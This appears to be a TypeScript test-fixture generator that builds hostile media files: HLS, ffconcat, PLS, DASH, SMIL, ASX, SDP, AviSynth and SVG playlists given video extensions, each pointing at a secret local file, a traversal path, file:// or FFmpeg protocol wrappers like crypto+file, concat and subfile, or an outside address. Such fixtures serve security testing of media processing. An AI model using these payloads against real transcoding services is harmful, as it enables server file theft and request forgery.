import path from 'node:path';
import type { HostileFile, Targets } from './hostile-file.js';

/** Texts that name other files or addresses, under names of videos. */
export function playlists({ secret, address }: Targets): HostileFile[] {
  const near = path.basename(secret);
  const far = `../../${path.basename(path.dirname(secret))}/${near}`;
  const hls = (target: string, more = ''): string =>
    `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n${more}#EXTINF:2.0,\n${target}\n#EXT-X-ENDLIST\n`;
  const concat = (target: string): string => `ffconcat version 1.0\nfile ${target}\n`;
  const texts: Readonly<Record<string, string>> = {
    'hls-absolute.mp4': hls(secret),
    'hls-relative.mp4': hls(far),
    'hls-url.mp4': hls(`${address}/a.ts`),
    'hls-file-url.mkv': hls(`file://${secret}`),
    'hls-bom.mp4': `\ufeff${hls(secret)}`,
    'hls-spaces.mp4': `\n \t${hls(secret)}`,
    'hls-lower.ts': hls(secret).toLowerCase(),
    'hls-key.mp4': hls(secret, `#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n`),
    'hls-map.mp4': hls(secret, `#EXT-X-MAP:URI="file://${secret}"\n`),
    'hls-master.mp4': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${address}/b.m3u8\n`,
    'hls-crypto.mp4': hls(`crypto+file://${secret}`),
    'hls-concat.mp4': hls(`concat:${secret}|${secret}`),
    'hls-subfile.mp4': hls(`subfile,,start,0,end,9999,,:${secret}`),
    'hls-data.mp4': hls('data:video/mp2t;base64,R0AAEAAA'),
    'concat-near.mp4': concat(near),
    'concat-absolute.mp4': concat(secret),
    'concat-url.mp4': concat(`${address}/c.mp4`),
    'concat-quoted.avi': `ffconcat version 1.0\nfile '${secret}'\ninpoint 0\n`,
    'concat-plain.mp4': `file ${secret}\n`,
    'concat-stream.mp4': `ffconcat version 1.0\nstream\nexact_stream_id 0x101\nfile ${secret}\n`,
    'playlist.pls.mp4': `[playlist]\nFile1=${secret}\nNumberOfEntries=1\n`,
    'list.mpd.mp4': `<?xml version="1.0"?>\n<MPD><Period><BaseURL>file://${secret}</BaseURL></Period></MPD>\n`,
    'list.smil.mov': `<smil><body><video src="${address}/d.mp4"/></body></smil>\n`,
    'list.asx.asf': `<asx version="3.0"><entry><ref href="${address}/e.asf"/></entry></asx>\n`,
    'session.sdp.mp4': 'v=0 \no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n',
    'session-2.sdp.mp4': 'v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n',
    'address.mp4': `${address}/f.mp4\n`,
    'rtsp.mp4': 'rtsp://127.0.0.1:554/g\n',
    'image-sequence.mp4': `${path.dirname(secret)}/%d.png\n`,
    'avisynth.avs.mp4': `FFVideoSource("${secret}")\n`,
    'svg.mp4': `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${secret}"/></svg>\n`,
    'metadata.mp4': `;FFMETADATA1\ntitle=${secret}\n`,
  };
  return Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text) }));
}
